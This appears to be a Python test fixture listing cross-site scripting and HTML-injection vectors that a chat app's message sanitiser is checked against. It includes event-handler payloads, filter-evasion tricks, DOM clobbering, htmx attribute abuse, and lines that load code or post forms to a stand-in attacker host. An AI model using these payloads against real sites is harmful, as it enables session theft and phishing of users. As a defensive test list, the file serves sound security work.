"""Messages of attackers. Every vector that could run a script calls `boom()`."""

VECTORS = r"""
<script>boom()</script>
<script src=https://evil.example/a.js></script>
<ScRiPt type=module>boom()</sCrIpT>
<scr<script>ipt>boom()</script>
<img src=x onerror=boom()>
<img src=https://evil.example/pixel.gif>
<img srcset="https://evil.example/a.png 1x" alt=x>
"><img src=x onerror=boom()>
' autofocus onfocus='boom()
<svg onload=boom()></svg>
<svg><script>boom()</script></svg>
<svg><animate onbegin=boom() attributeName=x dur=1s></svg>
<math><mi xlink:href="javascript:boom()">x</mi></math>
<body onload=boom()>
<input autofocus onfocus=boom()>
<details open ontoggle=boom()>
<video><source onerror=boom()></video>
<audio src=x onerror=boom()>
<iframe src="javascript:boom()"></iframe>
<iframe srcdoc="<script>parent.boom()</script>"></iframe>
<object data="javascript:boom()"></object>
<embed src="https://evil.example/a.swf">
<a href="javascript:boom()">click here</a>
<a href="https://evil.example/" ping="https://evil.example/ping">click</a>
javascript:boom()
data:text/html,<script>boom()</script>
vbscript:boom()
<base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<link rel=stylesheet href=https://evil.example/a.css>
<style>@import "https://evil.example/b.css"; * { display: none }</style>
<p style="position:fixed;inset:0;background:url(https://evil.example/c.png)">over everything</p>
<form action="https://evil.example/"><button>Log in again</button></form>
<input name=cursor value="0.0"><input name=pane value=1>
<input type=hidden name=csrfmiddlewaretoken value=x>
<template><img src=x onerror=boom()></template>
<noscript><p title="</noscript><img src=x onerror=boom()>">
<textarea><img title="</textarea><img src=x onerror=boom()>"></textarea>
<a id=conversation-1-transcript name=notices>clobbered</a>
<form id=confirmation><input name=children></form>
<img name=getElementById><img id=body name=cookie>
<div hx-get="/accounts/logout/" hx-trigger="load">x</div>
<div hx-post="https://evil.example/" hx-trigger="revealed" hx-vals="js:{a:boom()}">x</div>
<div data-hx-get="/people/" data-hx-trigger="load" data-hx-on:load="boom()">x</div>
<button hx-on:click="boom()" hx-on::load="boom()">x</button>
<form ws-send hx-trigger=load><input name=type value=message><input name=text value=forged></form>
<div ws-connect="wss://evil.example/" hx-ext="ws">x</div>
<div hx-swap-oob="innerHTML:body">gone</div>
<ol hx-swap-oob="beforeend:#panes"><li class=message>forged</li></ol>
<p id=connection hx-swap-oob=true>You’re logged out.</p>
</p></li></ol></div></section></main><h1>outside</h1>
</textarea></template></form><p class=forged>outside</p>
--><!--<img src=x onerror=boom()>--> ]]> <![CDATA[<script>boom()</script>]]>
{{ message.sender.password }} {% load static %} {% include "500.html" %} {% csrf_token %}
${boom()} #{boom()} <%= boom() %> {{constructor.constructor('boom()')()}}
&lt;script&gt;boom()&lt;/script&gt; &#60;img src=x onerror=boom()&#62; &amp;lt; &nbsp;
\u003cscript\u003eboom()\u003c/script\u003e %3Cscript%3Eboom()%3C/script%3E
＜script＞boom()＜/script＞
https://x.example/"onmouseover=boom()
https://x.example/'onmouseover='boom()
https://x.example/"><img/src=x/onerror=boom()>
www.example.com'><img src=x onerror=boom()>
https://x.example/<script>boom()</script>
https://x.example/&quot;onfocus=boom()&quot;autofocus
https://boom():boom()@x.example/#"><svg/onload=boom()>
somebody@example.com"onclick="boom()
mailto:a@example.com?body=<img src=x onerror=boom()>
*<img src=x onerror=boom()>* **<script>boom()</script>** _" onfocus=boom() autofocus_
`<img src=x onerror=boom()>` ``</code></p><script>boom()</script>`` `https://x.example/"><script>`
*a <em>* `b </code>` **https://x.example/**"onmouseover=boom()**
""".strip().splitlines()  # noqa: RUF001 - the look-alikes are meant
